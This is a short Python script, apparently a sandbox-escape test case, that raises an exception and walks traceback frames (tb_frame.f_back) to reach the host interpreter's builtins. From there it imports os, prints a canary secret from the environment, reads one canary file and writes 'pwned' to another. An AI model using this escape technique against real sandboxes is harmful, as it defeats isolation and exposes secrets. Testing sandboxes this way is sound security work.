# attack: an exception's traceback, then tb_frame.f_back to the host's frames
reached = []


def loot(b):
    """Given the host's builtins (module or dict): keep it as the result, steal both secrets."""
    reached.append(b)
    try:
        if not isinstance(b, dict):
            b = getattr(b, "__dict__")
        ga = b["getattr"]
        os = b["__import__"]("os")
        print(ga(os, "environ")["MONTY_CANARY_SECRET"])
        print(ga(b["open"](canary_path), "read")())
        ga(b["open"](canary_write_path, "w"), "write")("pwned")
    except Exception as err:
        print("loot stopped:", type(err).__name__)


try:
    1 / 0
except ZeroDivisionError as e:
    tb = getattr(e, "__trace" + "back__")
frame = getattr(tb, "tb_frame")
while frame is not None:
    b = getattr(frame, "f_builtins")
    if "open" in b:
        loot(b)
        break
    frame = getattr(frame, "f_back")
reached
